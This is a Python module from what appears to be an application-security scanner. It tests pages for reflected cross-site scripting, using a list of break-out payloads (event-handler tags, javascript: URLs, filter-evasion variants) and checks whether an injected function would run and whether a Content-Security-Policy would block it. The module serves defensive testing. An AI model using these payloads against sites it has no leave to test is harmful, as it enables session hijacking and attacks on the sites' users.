"""Reflected script: the value comes back in a page, and leaves the place that it has there.

First a harmless word finds where values stand; then only break-outs that fit are tried. The answer is read as
a browser reads it: a finding is a call that would run, not an echo of characters.
"""

from collections.abc import Iterator
from functools import partial

from threatweaver_appsec.engine.agent import (
    About,
    Agent,
    Attempt,
    Nonce,
    PointAgent,
    Proof,
    Safety,
    Severity,
    Sight,
)
from threatweaver_appsec.engine.agents.attacks import Lead, excerpt, open_to, text_of
from threatweaver_appsec.engine.agents.contexts import Context, contexts_of, renders, running
from threatweaver_appsec.engine.messages import Exchange, header
from threatweaver_appsec.engine.points import Point, Where

MARKUP = frozenset(
    {Context.TEXT, Context.RAW, Context.COMMENT, Context.TAG, Context.SCRIPT, Context.HANDLER}
    | {Context.DOUBLE, Context.SINGLE, Context.BARE}
)
TEXTS = frozenset({Context.TEXT, Context.RAW, Context.COMMENT, Context.TAG})
ATTRIBUTES = frozenset({Context.DOUBLE, Context.SINGLE, Context.BARE})
SCRIPTS = frozenset({Context.SCRIPT, Context.HANDLER})

# {0} is a function's name that stands nowhere else. Each value with where it leads out of what; the second is
# what it looks like without the sign that leads out.
Breakout = tuple[frozenset[Context], str, str]
BREAKOUTS: tuple[Breakout, ...] = (
    (
        MARKUP,
        "'\">--></script></style></title></textarea></noscript><img src=x onerror={0}()>",
        "'\">--></script></style></title></textarea></noscript>img src=x onerror={0}()>",
    ),
    (frozenset({Context.DOUBLE}), '" autofocus onfocus="{0}()', " autofocus onfocus={0}()"),
    (frozenset({Context.SINGLE}), "' autofocus onfocus='{0}()", " autofocus onfocus={0}()"),
    (frozenset({Context.BARE, Context.TAG}), "x autofocus onfocus={0}() ", "x-autofocus-onfocus:{0}()"),
    (frozenset({Context.URL}), "javascript:{0}()", "x-javascript:{0}()"),
    (frozenset({Context.URL}), "JaVa\tScript:{0}()", "x-javascript:{0}()"),
    (frozenset({Context.CODE, Context.HANDLER}), "1;{0}();", "1;{0};"),
    (SCRIPTS, "'-{0}()-'", "-{0}()-"),
    (SCRIPTS, '"-{0}()-"', "-{0}()-"),
    (SCRIPTS, "\\'-{0}()//", "-{0}()//"),
    (SCRIPTS, '\\"-{0}()//', "-{0}()//"),
    (SCRIPTS, "${{{0}()}}", "{{{0}()}}"),
    (TEXTS, "<script>{0}()</script>", "script>{0}()/script>"),
    (TEXTS, "<ScRiPt >{0}()</ScRiPt>", "ScRiPt >{0}()/ScRiPt>"),
    (TEXTS, "<svg/onload={0}()>", "svg/onload={0}()>"),
    (TEXTS, "<scr<script>ipt>{0}()</scr</script>ipt>", "scr-script-ipt>{0}()/scr/script/ipt>"),
    (TEXTS, "<details/open/ontoggle={0}()>", "details/open/ontoggle={0}()>"),
    (ATTRIBUTES, "\"'><svg/onload={0}()>", " svg/onload={0}()"),
)


def _found(sight: Sight, word: str) -> set[str]:
    found: set[Context] = set()
    for exchange in sight.exchanges:
        if exchange.response and renders(exchange.response):
            found |= contexts_of(exchange.text, word)
    return set(found)


def runs(word: str, point: Point, sight: Sight) -> Proof | None:
    """Return the proof that a page of an answer would call a function."""
    for exchange in sight.exchanges:
        if exchange.response is None or not renders(exchange.response):
            continue
        if found := running(exchange.text, word):
            kept = _kept_by_policy(exchange)
            mild = kept or point.where in (Where.COOKIE, Where.HEADER)
            return Proof(
                says=f"The value leaves its place in the page, and {found.by} would call {word}()"
                + (", were it not for the page's Content-Security-Policy." if kept else "."),
                excerpt=excerpt(exchange.text, found.start, min(found.end, found.start + 300), 60),
                exchanges=(exchange,),
                severity=Severity.LOW if mild else None,
            )
    return None


def _kept_by_policy(exchange: Exchange) -> bool:
    """Whether a policy forbids scripts that stand in the page itself."""
    policy = header(exchange.response.headers if exchange.response else (), "Content-Security-Policy") or ""
    rules = {words[0].lower(): words[1:] for rule in policy.split(";") if (words := rule.split())}
    sources = rules.get("script-src", rules.get("default-src"))
    return sources is not None and "'unsafe-inline'" not in sources


def _attempts(point: Point, baseline: Exchange, nonce: Nonce) -> Iterator[Attempt]:
    del baseline
    lead = Lead()
    word = nonce.word(10)
    yield lead.learn((word,), lambda sight: _found(sight, word))
    for contexts, value, harmless in BREAKOUTS:
        name = nonce.word(10)
        attempt = Attempt(
            (value.format(name),),
            partial(runs, name, point),
            (harmless.format(name),),
        )
        yield lead.any_of(contexts, attempt)
    if text_of(point):  # where only what is known is shown: the value that was there, and more
        name = nonce.word(10)
        known = text_of(point)
        _, value, harmless = BREAKOUTS[0]
        yield Attempt(
            (known + value.format(name),),
            partial(runs, name, point),
            (known + harmless.format(name),),
        )


def _wants(point: Point, baseline: Exchange) -> bool:
    """No header but the Referer: other sites cannot make a browser send these."""
    return open_to(point, baseline) and (point.where is not Where.HEADER or point.name == "Referer")


AGENTS: tuple[Agent, ...] = (
    PointAgent(
        About(
            id="reflected-xss",
            title="Reflected cross-site scripting",
            cwe=79,
            owasp="A03:2021",
            severity=Severity.HIGH,
            safety=Safety.SAFE,
            description="A value comes back in a page as markup: a link to it runs script of who wrote the"
            " link, as the user who follows it.",
            remedy="Encode values for the place where they stand (text, attribute, script, address), by a"
            " template engine that does so by itself; let a Content-Security-Policy forbid inline scripts.",
        ),
        wants=_wants,
        attempts=_attempts,
    ),
)
